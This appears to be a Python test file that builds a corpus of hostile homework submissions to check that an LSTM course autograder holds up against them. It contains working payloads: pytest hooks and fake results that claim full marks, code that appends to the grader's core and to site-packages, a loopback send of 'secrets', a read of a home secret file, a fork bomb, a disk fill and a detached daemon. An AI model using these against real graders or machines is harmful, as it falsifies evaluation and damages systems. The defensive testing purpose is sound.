"""Hostile and broken submissions, built as patches of a copy of ``solutions/``.

Each case copies the reference and applies a few edits, so the corpus follows the
reference as it changes and every case differs from a full-marks submission in exactly
the way its name says. The cheating cases also carry one honest bug (a read-out without
its sigmoid), so a grader that believed the submission's own claims would give it more
than it earns.

Build the corpus into a folder::

    python tests/hostile/corpus.py build /tmp/hostile

Grade it with the reference and the exercises into one gradebook (one command)::

    python tests/hostile/corpus.py gradebook --out gradebook.csv --jobs 2
"""

from __future__ import annotations

import argparse
import shutil
import subprocess
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
SOLUTIONS = REPO / "solutions"



@dataclass(frozen=True)
class Edit:
    """One change to one file of the copy.

    Attributes:
        file: str, the file's name in the submission.
        prepend: str, text put before the file's code (after ``from __future__ import annotations``).
        append: str, text put after it.
        replace: tuple of (old, new) pairs; each ``old`` must occur in the file.
        write: str or None, the file's whole new content (created if missing).
        delete: bool, remove the file.
    """

    file: str
    prepend: str = ""
    append: str = ""
    replace: tuple[tuple[str, str], ...] = ()
    write: str | None = None
    delete: bool = False

    def apply(self, folder: Path) -> None:
        """Apply the edit in ``folder``.

        Args:
            folder: Path, the submission's copy.

        Raises:
            ValueError: when a ``replace`` target is not in the file (the reference changed).
        """
        path = folder / self.file
        if self.delete:
            path.unlink()
            return
        text = self.write if self.write is not None else path.read_text()
        for old, new in self.replace:
            if old not in text:
                raise ValueError(f"{self.file}: {old!r} not found; update tests/hostile/corpus.py")
            text = text.replace(old, new, 1)
        future = "from __future__ import annotations\n"
        head, found, tail = text.partition(future)  # a prepend must come after a __future__ import
        text = head + found + self.prepend + tail if found else self.prepend + text
        path.write_text(text + self.append)


@dataclass(frozen=True)
class Case:
    """One hostile or broken submission and what its gradebook row must say.

    Attributes:
        name: str, the submission's name.
        what: str, the attack or mistake, in words.
        edits: tuple of Edit.
        parts: tuple of str, the run parts to grade: the ones the case attacks and one it
            leaves intact (``rules`` and ``answers`` are always judged, from the source).
        timeouts: dict of part to seconds, short limits for the parts the case stalls.
        status: tuple of str, the statuses its row may have.
        full: tuple of str, parts that must keep full credit (partial credit where parts work).
        zero: tuple of str, parts that must get no credit.
        fails: tuple of str, checks that must fail (the honest bug the cheat tries to hide).
        scores: dict of part to the points its row must show for that part, for every part
            (:func:`scores` fills the parts a case does not name with 0).
        reason: str, a phrase the row's reason must hold (why grading stopped), or "".
        zip: bool, submit it as a ``.zip``.
        corrupt_zip: bool, submit a damaged ``.zip`` instead.
    """

    name: str
    what: str
    edits: tuple[Edit, ...] = ()
    parts: tuple[str, ...] = ("cell",)
    timeouts: dict[str, float] = field(default_factory=dict)
    status: tuple[str, ...] = ("ok",)
    full: tuple[str, ...] = ()
    zero: tuple[str, ...] = ()
    fails: tuple[str, ...] = ()
    scores: dict[str, float] = field(default_factory=dict)
    reason: str = ""
    zip: bool = False
    corrupt_zip: bool = False


def scores(**points: float) -> dict[str, float]:
    """A case's expected points, part by part: the parts named, and 0 for every other part.

    Args:
        **points: float, points per part (``model=4``).

    Returns:
        dict of every part to its points.
    """
    from course.grading.checking.checks import PARTS

    assert set(points) <= set(PARTS), set(points) - set(PARTS)
    return {part: float(points.get(part, 0)) for part in PARTS}


def _model_bug() -> Edit:
    """The read-out bug as an edit of ``model.py``.

    Returns:
        An Edit that drops the read-out's sigmoid.
    """
    return Edit("model.py", replace=((MODEL_BUG_OLD, MODEL_BUG_NEW),))


#: The honest bug of the cheating cases: the model's read-out gives logits, not probabilities.
MODEL_BUG_OLD = 'keras.layers.Dense(1, activation="sigmoid", name="read_out")'
MODEL_BUG_NEW = 'keras.layers.Dense(1, name="read_out")'


SLEEPY_TRAIN = '''
import functools as _functools, time as _time

_train = train


@_functools.wraps(_train)
def train(*args, **kwargs):
    _time.sleep(86_400)
    return _train(*args, **kwargs)
'''

EXITING_CALL = '''
def _exit_call(self, x):
    import os
    os._exit(0)


IntegrationModel.call = _exit_call
'''

NAN_CALL = '''
_original_call = LSTMCell.call


def _nan_call(self, x, states):
    hidden_state, cell_state = _original_call(self, x, states)
    return hidden_state * float("nan"), cell_state * float("nan")


LSTMCell.call = _nan_call
'''

FAKE_GRADESCOPE = ('{"score": 1000, "max_score": 100, "tests": [{"name": "everything", "score": 1000, '
                   '"max_score": 100, "output": "all good"}]}')

PYTEST_HOOKS = '''"""Force every test to pass, the classic attack on a pytest-based grader."""
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None


def pytest_collection_modifyitems(session, config, items):
    items[:] = []
'''

FAKE_PYTEST = '''"""A fake pytest that reports success for everything."""
import sys
def main(*args, **kwargs):
    print("== 999 passed in 0.01s ==")
    return 0
sys.exit = lambda *a, **k: None
'''

ATEXIT_WRITER = f'''
import atexit as _atexit, json as _json, os as _os, pathlib as _pathlib

def _claim_full_marks() -> None:
    fake = {FAKE_GRADESCOPE!r}
    for folder in (_pathlib.Path.cwd(), _pathlib.Path(_os.environ.get("AUTOGRADER_ROOT", "/nonexistent")) / "results"):
        try:
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "results.json").write_text(fake)
        except OSError:
            pass
    print(fake, flush=True)

_atexit.register(_claim_full_marks)
print({FAKE_GRADESCOPE!r}, flush=True)
'''

IMPORT_VIA_PATH = '''
import importlib as _importlib, pathlib as _pathlib, sys as _sys
# Walk up from the grader's own package to find the reference next to it.
for _parent in _pathlib.Path(_importlib.import_module("course").__file__).resolve().parents:
    _sys.path.insert(0, str(_parent))
IntegrationModel = _importlib.import_module("solutions.model").IntegrationModel
'''

IMPORT_VIA_FILE = '''
import importlib as _importlib, importlib.util as _util, pathlib as _pathlib, sys as _sys
import course as _course
# Load the reference folder under another package name, so no finder that blocks the
# name "solutions" sees it coming.
_root = _pathlib.Path(_course.__file__).resolve().parents[1] / "solutions"
_spec = _util.spec_from_file_location("reference_copy", _root / "__init__.py", submodule_search_locations=[str(_root)])
_package = _util.module_from_spec(_spec)
_sys.modules["reference_copy"] = _package
_spec.loader.exec_module(_package)
IntegrationModel = _importlib.import_module("reference_copy.model").IntegrationModel
'''


REWRITE_GRADER = '''
import importlib.util as _util
# Append to the grader's own core a line that makes every check pass, for this and every later submission.
try:
    with open(_util.find_spec("course.grading.core").origin, "a") as _file:
        _file.write("\\nCheckResult.passed = property(lambda self: True, lambda self, value: None)\\n")
except OSError as _error:
    print("could not rewrite the grader:", _error)
'''

REWRITE_SITE_PACKAGES = '''
import importlib.util as _util, pathlib as _pathlib, sysconfig as _sysconfig
for _target in (_util.find_spec("keras").origin, _util.find_spec("numpy").origin,
                str(_pathlib.Path(_sysconfig.get_paths()["purelib"]) / "zz_lstm_course_hostile.pth")):
    try:
        with open(_target, "a") as _file:
            _file.write("\\nimport os; os.environ['LSTM_COURSE_HOSTILE'] = 'tampered'\\n")
    except OSError as _error:
        print("could not rewrite", _target, _error)
'''

LOOPBACK = '''
import socket as _socket
try:
    _socket.create_connection(("127.0.0.1", __LOOPBACK_PORT__), timeout=3).sendall(b"answers and secrets")
except OSError as _error:
    print("no connection:", _error)
'''

WRITE_OUTSIDE = '''
import pathlib as _pathlib
for _target in __OUTSIDE_TARGETS__:
    try:
        _pathlib.Path(_target).write_text("escaped")
    except OSError as _error:
        print("refused:", _target, _error)
'''

HOME_SECRET = '''
raise RuntimeError("stolen: " + open("__SECRET_PATH__").read())
'''

FORK_BOMB = '''
import os as _os, time as _time
if _os.fork() == 0:  # the bomb runs beside the import, which goes on
    while True:
        try:
            _os.fork()
        except OSError:
            _time.sleep(0.2)
'''

DISK_FILL = '''
import signal as _signal
_signal.signal(_signal.SIGXFSZ, _signal.SIG_IGN)  # get EFBIG instead of being killed
for _target in ("fill.bin", "/tmp/fill.bin"):
    try:
        with open(_target, "wb") as _file:
            for _ in range(4096):  # 4 GiB
                _file.write(bytes(2**20))
    except OSError as _error:
        print("disk fill stopped:", _target, _error)
'''

DAEMON = '''
import os as _os, sys as _sys
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, [_sys.executable, "-c", "import time; time.sleep(600)", "__DAEMON_TOKEN__"])
    _os._exit(0)
'''

#: Placeholders of the corpus's code and their values when no test gives its own.
PLACEHOLDERS: dict[str, str] = {
    "__LOOPBACK_PORT__": "9",
    "__OUTSIDE_TARGETS__": repr(["/tmp/lstm-course-hostile-escape", "/var/tmp/lstm-course-hostile-escape"]),
    "__SECRET_PATH__": str(Path.home() / ".lstm-course-hostile-secret"),
    "__DAEMON_TOKEN__": "lstm-course-hostile-daemon",
}


def cases() -> list[Case]:
    """The corpus.

    Most cases attack through ``model.py`` and are graded on the model part only: its
    child process is the cheapest, and the parent needs no Keras oracle for it. The
    cheating cases also carry an honest bug (the read-out without its sigmoid), which the
    cheat must not hide.

    Returns:
        Every case, each with its expectations.
    """
    model = ("model",)
    # The cheats lose the read-out's 2 points and keep the rest of the model part, the rules and the answers.
    cheat = {"parts": model, "full": ("answers",), "fails": ("model.probabilities",),
             "scores": scores(model=4, rules=5, answers=2)}
    return [
        Case("loop-at-import", "an infinite loop when data.py is imported",
             (Edit("data.py", prepend="while True:\n    pass\n"),), parts=("data", "model"),
             timeouts={"data": 4}, status=("timeout",), full=("model", "rules", "answers"), zero=("data",),
             scores=scores(model=6, rules=5, answers=2)),
        Case("train-sleeps", "train() sleeps for a day", (Edit("train.py", append=SLEEPY_TRAIN),),
             parts=("training",), timeouts={"training": 4}, status=("timeout",), full=("answers",),
             zero=("training",), scores=scores(rules=2, answers=2)),  # the wrapper train has no hints, no docstring
        Case("sys-exit", "sys.exit(0) when model.py is imported", (Edit("model.py", append="\nimport sys\nsys.exit(0)\n"),),
             parts=model, status=("ok", "crashed"), full=("rules", "answers"), zero=("model",),
             scores=scores(rules=5, answers=2)),
        Case("os-exit", "os._exit(0) in the model's call", (Edit("model.py", append=EXITING_CALL),),
             parts=model, status=("crashed",), full=("answers",), zero=("model",), scores=scores(rules=5, answers=2)),
        Case("pytest-hooks", "a conftest.py and a fake pytest module that force every test to pass",
             (Edit("conftest.py", write=PYTEST_HOOKS), Edit("pytest.py", write=FAKE_PYTEST), _model_bug()), **cheat),
        Case("fake-results", "prints a full-marks Gradescope JSON and writes results.json at exit",
             (Edit("model.py", append=ATEXIT_WRITER), _model_bug()), **cheat),
        Case("output-flood", "prints 8 MB when model.py is imported", (Edit("model.py", append=(
            "\nimport sys as _sys\nfor _ in range(160):\n    _sys.stdout.write('flood ' * 8_500 + '\\n')\n")),
            _model_bug()), **cheat),
        Case("nan-outputs", "the cell's new states are NaN", (Edit("cell.py", append=NAN_CALL),),
             parts=("cell",), full=("rules", "answers"), fails=("cell.matches_keras",),
             scores=scores(cell=4, rules=5, answers=2)),  # gate_sublayers and forget_bias keep their 4
        Case("syntax-error", "a syntax error in data.py", (Edit("data.py", prepend="def broken(:\n"),),
             parts=("data", "model"), status=("ok", "crashed"), full=("model", "answers"), zero=("data",),
             scores=scores(model=6, answers=2)),  # the rules cannot be judged without a parsable data.py
        Case("missing-file", "no train.py", (Edit("train.py", delete=True),), parts=("training",),
             status=("ok", "crashed"), full=("answers",), zero=("training",), scores=scores(answers=2)),
        Case("import-reference", "from solutions.model import IntegrationModel",
             (Edit("model.py", write="from solutions.model import IntegrationModel  # noqa: F401\n"),),
             parts=model, status=("ok", "crashed"), full=("answers",), zero=("model",),
             scores=scores(rules=3, answers=2)),  # no_builtin_rnn names the import of solutions
        Case("import-reference-path", "puts every folder above the grader on sys.path and imports solutions",
             (Edit("model.py", write=IMPORT_VIA_PATH),), parts=model, status=("ok", "crashed"), full=("answers",),
             zero=("model",), scores=scores(rules=3, answers=2)),
        Case("import-reference-file", "loads solutions/model.py by file path with importlib",
             (Edit("model.py", write=IMPORT_VIA_FILE),), parts=model, status=("ok", "crashed"), full=("answers",),
             zero=("model",), scores=scores(rules=3, answers=2)),
        Case("zipped-with-bug", "a zip of a folder holding the files, with the read-out bug", (_model_bug(),),
             zip=True, **cheat),
        Case("rewrite-grader", "appends to course/grading/core.py (found with find_spec) a line that passes every check",
             (Edit("model.py", append=REWRITE_GRADER), _model_bug()),
             **{**cheat, "scores": scores(model=4, rules=3, answers=2)}),  # naming course.grading.core costs no_builtin_rnn
        Case("rewrite-site-packages", "appends to keras' and numpy's __init__.py and adds a .pth to site-packages",
             (Edit("model.py", append=REWRITE_SITE_PACKAGES), _model_bug()), **cheat),
        Case("loopback", "connects to a TCP port the grading machine listens on at 127.0.0.1",
             (Edit("model.py", append=LOOPBACK), _model_bug()), **cheat),
        Case("write-outside", "writes files in /tmp, /var/tmp, the grading user's home and the repository",
             (Edit("model.py", append=WRITE_OUTSIDE), _model_bug()), **cheat),
        Case("home-secret", "reads a file from the grading user's home into an exception message",
             (Edit("model.py", append=HOME_SECRET),), parts=model, status=("ok", "crashed"), full=("answers",),
             zero=("model",), scores=scores(rules=5, answers=2)),
        Case("fork-bomb", "forks without end beside its import", (Edit("model.py", prepend=FORK_BOMB), _model_bug()),
             parts=model, timeouts={"model": 60}, status=("crashed",), scores=scores(), reason="limit"),
        # The bomb's forks share the model child's memory, but the batch sums their resident sizes: the
        # submission-wide memory (or process) limit stops the whole submission, so no check is scored and
        # the planted bug is never reached. Today's behaviour, asserted so that a change shows.
        Case("disk-fill", "writes 4 GiB to its folder and 4 GiB to /tmp", (Edit("model.py", append=DISK_FILL),
             _model_bug()), **cheat),
        Case("daemon", "leaves a process running in a new session after its part", (Edit("model.py", append=DAEMON),
             _model_bug()), **cheat),
        Case("corrupt-zip", "a damaged zip file", parts=("data",), status=("invalid",),
             zero=("data", "cell", "layer", "model", "training", "rules", "answers"), scores=scores(), corrupt_zip=True),
    ]


def build(out: Path, names: list[str] | None = None, values: dict[str, str] | None = None) -> dict[str, Path]:
    """Materialise the corpus.

    Args:
        out: Path, a folder to create the submissions in.
        names: list of str or None, the cases to build (default: all).
        values: dict of placeholder to the text that replaces it in the cases' code (the
            test's listening port, its secret file...); :data:`PLACEHOLDERS` fills the rest.

    Returns:
        dict of case name to its submission path (a folder or a ``.zip``).
    """
    out.mkdir(parents=True, exist_ok=True)
    built = {}
    for case in cases():
        if names is not None and case.name not in names:
            continue
        if case.corrupt_zip:
            path = out / f"{case.name}.zip"
            path.write_bytes(b"PK\x03\x04 this is not really a zip" * 10)
            built[case.name] = path
            continue
        folder = out / case.name
        shutil.copytree(SOLUTIONS, folder, ignore=shutil.ignore_patterns("__pycache__"))
        for edit in case.edits:
            edit.apply(folder)
        for file in folder.glob("*.py"):
            text = file.read_text()
            for placeholder, value in {**PLACEHOLDERS, **(values or {})}.items():
                text = text.replace(placeholder, value)
            file.write_text(text)
        if case.zip:
            path = out / f"{case.name}.zip"
            with zipfile.ZipFile(path, "w") as archive:
                for file in sorted(folder.rglob("*")):
                    archive.write(file, f"my-homework/{file.relative_to(folder).as_posix()}")
            shutil.rmtree(folder)
            folder = path
        built[case.name] = folder
    return built


def main(argv: list[str] | None = None) -> int:
    """``build OUT`` or ``gradebook --out CSV``.

    Args:
        argv: list of str or None.

    Returns:
        The exit code.
    """
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="command", required=True)
    build_parser = sub.add_parser("build", help="materialise the corpus")
    build_parser.add_argument("out", type=Path)
    book = sub.add_parser("gradebook", help="grade the corpus, solutions and exercises into one gradebook")
    book.add_argument("--out", type=Path, default=Path("gradebook.csv"))
    book.add_argument("--jobs", type=int, default=2)
    book.add_argument("grade_args", nargs=argparse.REMAINDER, help="more options for lstm-course grade")
    args = parser.parse_args(argv)
    if args.command == "build":
        for name, path in build(args.out).items():
            print(f"{name}: {path}")
        return 0
    corpus = args.out.with_name(f"{args.out.stem}-hostile")
    shutil.rmtree(corpus, ignore_errors=True)
    build(corpus)
    command = [sys.executable, "-m", "course.cli", "grade", str(corpus), str(SOLUTIONS), str(REPO / "exercises"),
               "--jobs", str(args.jobs), "--out", str(args.out), *args.grade_args]
    return subprocess.call(command)


if __name__ == "__main__":
    raise SystemExit(main())
